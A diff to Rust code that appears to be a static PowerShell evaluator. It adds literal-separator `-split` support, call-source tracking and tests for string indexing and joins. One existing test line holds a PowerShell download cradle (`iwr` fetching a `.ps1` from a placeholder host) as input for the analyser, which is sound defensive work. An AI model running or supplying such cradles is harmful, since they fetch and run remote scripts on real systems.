@@ -77,6 +77,8 @@ pub(crate) struct Eval<'a> {
     vars: &'a dyn Fn(&str) -> Option<V>,
     pub calls: Vec<Synth>,
     pub incomplete: Option<String>,
+    /// The source text of the arguments of the method call being read (`"u", $b`).
+    pub(crate) call_src: String,
     depth: u32,
     steps: usize,
 }
@@ -104,6 +106,7 @@ impl<'a> Eval<'a> {
             vars,
             calls: Vec::new(),
             incomplete: None,
+            call_src: String::new(),
             depth: 0,
             steps: 0,
         }
@@ -170,6 +173,23 @@ impl<'a> Eval<'a> {
                         _ => V::Dyn,
                     }
                 }
+                // `$text -split "`n"`: the parts, split at a literal separator
+                "split" | "isplit" | "csplit" => match (v.text(), rhs.text()) {
+                    (Some(t), Some(sep))
+                        if !sep.is_empty()
+                            && !sep.contains([
+                                '\\', '[', '(', '.', '*', '+', '?', '^', '$', '|', '{',
+                            ]) =>
+                    {
+                        V::Arr(
+                            t.split(sep.as_str())
+                                .take(4096)
+                                .map(|x| V::Str(x.trim_end_matches('\r').to_string()))
+                                .collect(),
+                        )
+                    }
+                    _ => V::Dyn,
+                },
                 "f" => match v.text() {
                     Some(fmt) => format_op(&fmt, &rhs.items()),
                     None => V::Dyn,
@@ -333,6 +353,7 @@ impl<'a> Eval<'a> {
                     Vec::new()
                 };
                 end = e;
+                self.call_src = self.s.text(k + 1, e - 1);
             }
             v = self.member(v, &name, &args);
             i = end;
@@ -671,6 +692,12 @@ mod tests {
             ev("(iwr https://x.example/a.ps1 -UseBasicParsing).Content"),
             V::Download("https://x.example/a.ps1".into())
         );
+        assert_eq!(ev("'a,b' -split ','"), V::Arr(vec![st("a"), st("b")]));
+        assert_eq!(ev("'abc'[-1..-3] -join ''"), st("cba"));
+        assert_eq!(ev("'abc'[0]"), st("a"));
+        assert_eq!(ev("('x','y','z')[2, 0] -join ''"), st("zx"));
+        assert_eq!(ev("'abc'.Length"), V::Num(3));
+        assert_eq!(ev("-join 'ab'[1..0]"), st("ba"));
         assert_eq!(ev("$unknown + 'x'"), V::Dyn);
         assert_eq!(ev("Get-Date"), V::Dyn);
     }
